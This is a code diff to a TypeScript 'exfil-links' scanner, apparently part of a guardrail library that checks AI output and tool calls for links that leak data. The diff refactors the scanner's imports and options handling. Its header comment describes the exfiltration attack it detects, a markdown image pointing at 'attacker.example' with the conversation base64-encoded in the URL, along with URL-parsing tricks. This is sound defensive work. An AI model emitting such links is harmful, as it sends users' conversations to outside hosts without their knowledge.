@@ -2,7 +2,7 @@
 // `![](https://attacker.example/p.png?d=<the conversation, base64>)`; the chat UI renders the image and
 // the browser sends the data with no click at all. Links need a click but carry data the same way, and
 // `javascript:` / HTML `data:` URLs run code. Every destination a renderer could fetch is extracted
-// (links/extract.ts), parsed with the WHATWG URL parser (the one browsers use, so `https:\\evil.io`,
+// (exfil-links/extract.ts), parsed with the WHATWG URL parser (the one browsers use, so `https:\\evil.io`,
 // `//evil.io` and IDN tricks resolve as they would in the client), and checked against the host allowlist.
 //
 // Scores (the policy maps them to actions; the span is the URL alone so `redact` can cut just the URL):
@@ -16,18 +16,25 @@
 //         data: URL of another non-image type
 //   none  clickable link to an unlisted host without data (a docs page), allowlisted hosts, relative URLs,
 //         data: images, schemes browsers do not fetch (mailto:, tel:)
-import type { ScanContext, Scanner, ScannerFinding } from '../core/types.js';
-import { dataSignals, type DataSignalOptions } from './links/data-signals.js';
+import { z } from 'zod';
+import type { Scanner, ScannerFinding } from '../core/types.js';
+import { dataSignals, type DataSignalOptions } from './exfil-links/data-signals.js';
 import {
   DEFAULT_MAX_LINKS,
   extractLinks,
   MAX_URL_LENGTH,
   type ExtractedLink,
   type LinkKind,
-} from './links/extract.js';
-import { compileAllowlist, EMPTY_ALLOWLIST, hostInfo, isAllowedHost, type Allowlist } from './links/host.js';
+} from './exfil-links/extract.js';
+import {
+  compileAllowlist,
+  EMPTY_ALLOWLIST,
+  hostInfo,
+  isAllowedHost,
+  type Allowlist,
+} from './exfil-links/host.js';
 
-export { extractLinks, type ExtractedLink, type LinkKind } from './links/extract.js';
+export { extractLinks, type ExtractedLink, type LinkKind } from './exfil-links/extract.js';
 
 export interface ExfilLinksOptions extends DataSignalOptions {
   /** Registrable domains (with subdomains), exact hosts, or `*.host` wildcards. Default: none. */
@@ -37,6 +44,21 @@ export interface ExfilLinksOptions extends DataSignalOptions {
   /** Links examined per text; reaching the cap is itself a finding. Default 1000. */
   maxLinks: number;
 }
+
+/** The scanner's policy options (`scanners.exfil-links.options`); an absent key takes EXFIL_LINKS_DEFAULTS. */
+export const ExfilLinksSettings = z
+  .object({
+    /** Registrable domains (subdomains included), `*.host`, or exact hosts that links may point to. */
+    allowHosts: z.array(z.string().min(1).max(253)).max(10_000).optional(),
+    /** Auto-loading images to unlisted hosts are findings even without data in the URL. */
+    blockAllImages: z.boolean().optional(),
+    maxLinks: z.number().int().min(1).max(100_000).optional(),
+    minParamLength: z.number().int().min(4).max(MAX_URL_LENGTH).optional(),
+    entropyMin: z.number().min(0).max(16).optional(),
+    maxParams: z.number().int().min(0).max(1000).optional(),
+  })
+  .strict();
+export type ExfilLinksSettings = z.infer<typeof ExfilLinksSettings>;
 
 export const EXFIL_LINKS_DEFAULTS: Readonly<ExfilLinksOptions> = {
   allowHosts: [],
@@ -98,26 +120,6 @@ function allowlistFor(entries: readonly string[]): Allowlist {
   let list = allowlists.get(entries);
   if (!list) allowlists.set(entries, (list = compileAllowlist(entries)));
   return list;
-}
-
-function num(v: unknown, fallback: number, min: number, max: number): number {
-  return typeof v === 'number' && Number.isFinite(v) && v >= min && v <= max ? v : fallback;
-}
-
-export function exfilLinksOptions(options: Readonly<Record<string, unknown>>): ExfilLinksOptions {
-  const d = EXFIL_LINKS_DEFAULTS;
-  const hosts = options['allowHosts'];
-  return {
-    // The policy's own array is kept (not copied) so its compiled allowlist stays cached.
-    allowHosts:
-      Array.isArray(hosts) && hosts.every((h) => typeof h === 'string') ? (hosts as string[]) : d.allowHosts,
-    blockAllImages:
-      typeof options['blockAllImages'] === 'boolean' ? options['blockAllImages'] : d.blockAllImages,
-    maxLinks: Math.round(num(options['maxLinks'], d.maxLinks, 1, 100_000)),
-    minParamLength: Math.round(num(options['minParamLength'], d.minParamLength, 4, MAX_URL_LENGTH)),
-    entropyMin: num(options['entropyMin'], d.entropyMin, 0, 16),
-    maxParams: Math.round(num(options['maxParams'], d.maxParams, 0, 1000)),
-  };
 }
 
 function isC0OrSpace(c: number): boolean {
@@ -251,7 +253,9 @@ export function findExfilLinks(text: string, options: Partial<ExfilLinksOptions>
 
 export const exfilLinks = {
   name: 'exfil-links',
+  description: 'links and images in output that would send data to a host outside the allowlist',
+  options: ExfilLinksSettings,
   stages: ['output', 'tool_call'],
   cost: 'cheap',
-  scan: (text: string, ctx: ScanContext) => findExfilLinks(text, exfilLinksOptions(ctx.options)),
-} satisfies Scanner;
+  scan: (text, ctx) => findExfilLinks(text, ctx.options),
+} satisfies Scanner<ExfilLinksSettings>;
